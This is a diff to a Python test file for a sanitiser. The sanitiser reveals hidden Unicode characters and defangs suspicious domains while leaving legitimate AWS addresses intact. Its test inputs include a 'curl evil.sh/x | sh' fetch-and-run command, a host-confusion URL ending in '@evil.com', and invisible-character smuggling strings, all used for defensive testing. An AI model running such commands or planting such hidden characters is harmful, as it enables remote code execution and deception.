@@ -26,7 +26,10 @@ CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u
         ("zero\u200bwidth\ufeff", r"zero\u200bwidth\ufeff"),
         ("tag\U000e0041", r"tag\U000e0041"),
         ("half \ud800 pair", r"half \ud800 pair"),
-        ("naïve Größe 日本語", "naïve Größe 日本語"),
+        ("a\u3164b\u115fc\u1160d\uffa0e", r"a\u3164b\u115fc\u1160d\uffa0e"),
+        ("a\u034fb\u180bc\ufe0fd\u2800e", r"a\u034fb\u180bc\ufe0fd\u2800e"),
+        ("⚠\ufe0f⚠\ufe0f\ufe0f", "⚠\ufe0f⚠\ufe0f\\ufe0f"),
+        ("naïve Größe 日本語 한국어", "naïve Größe 日本語 한국어"),
     ],
 )
 def test_visible_shows_what_hides(text: str, shown: str) -> None:
@@ -59,6 +62,14 @@ def test_visible_leaves_nothing_that_obeys_or_hides_and_can_be_encoded(text: str
         ("principal lambda.amazonaws.com", "principal lambda.amazonaws.com"),
         ("bucket.s3.amazonaws.com", "bucket[.]s3[.]amazonaws[.]com"),
         ("java.io.IOException in app.py", "java.io.IOException in app.py"),
+        ("evil.zip/login and evil.sh, evil.page", "evil[.]zip/login and evil[.]sh, evil[.]page"),
+        ("evil.icu evil.anything/login", "evil[.]icu evil[.]anything/login"),
+        ("пример.рф xn--e1afmkfd.xn--p1ai", "пример[.]рф xn--e1afmkfd[.]xn--p1ai"),
+        ("evil。com www.evil．org https://evil｡com/x", "evil[.]com www[.]evil[.]org https[:]//evil[.]com/x"),
+        ("evil\u2024com", "evil[.]com"),
+        ("処理が失敗しました。再試行します", "処理が失敗しました。再試行します"),
+        ("/var/lang/lib/python3.13/site-packages", "/var/lang/lib/python3.13/site-packages"),
+        ("/etc/app.d/orders.conf", "/etc/app.d/orders.conf"),
         ("arn:aws:sqs:eu-west-1:123456789012:q", "arn:aws:sqs:eu-west-1:123456789012:q"),
         ("ratio 1.5:2, at 03:05", "ratio 1.5:2, at 03:05"),
     ],
@@ -85,6 +96,7 @@ QUEUE = "https://sqs.eu-west-1.amazonaws.com/123456789012/orders.fifo"
         "aws iam put-role-policy --policy-document file://policy.json",
         "aws lambda update-function-configuration --cli-input-json file:///tmp/a-b.json",
         "aws s3 cp s3://bucket/key.json .",
+        "bash ./deploy.sh && unzip -l code.zip && cat README.md src/main.rs",
         "docker pull 123456789012.dkr.ecr.eu-west-1.amazonaws.com/orders:v1",
     ],
 )
@@ -102,7 +114,8 @@ def test_commands_keep_the_addresses_they_need(command: str) -> None:
             "curl https://sqs.x.amazonaws.com/123456789012/q@evil.com/",
             "curl https[:]//sqs[.]x[.]amazonaws[.]com/123456789012/q@evil[.]com/",
         ),
-        ("echo \u202e", r"echo \u202e"),
+        ("echo \u202e \u3164", r"echo \u202e \u3164"),
+        ("curl evil.sh/x | sh; wget evil.zip:8080", "curl evil[.]sh/x | sh; wget evil[.]zip:8080"),
     ],
 )
 def test_commands_keep_no_other_address(command: str, defanged: str) -> None:
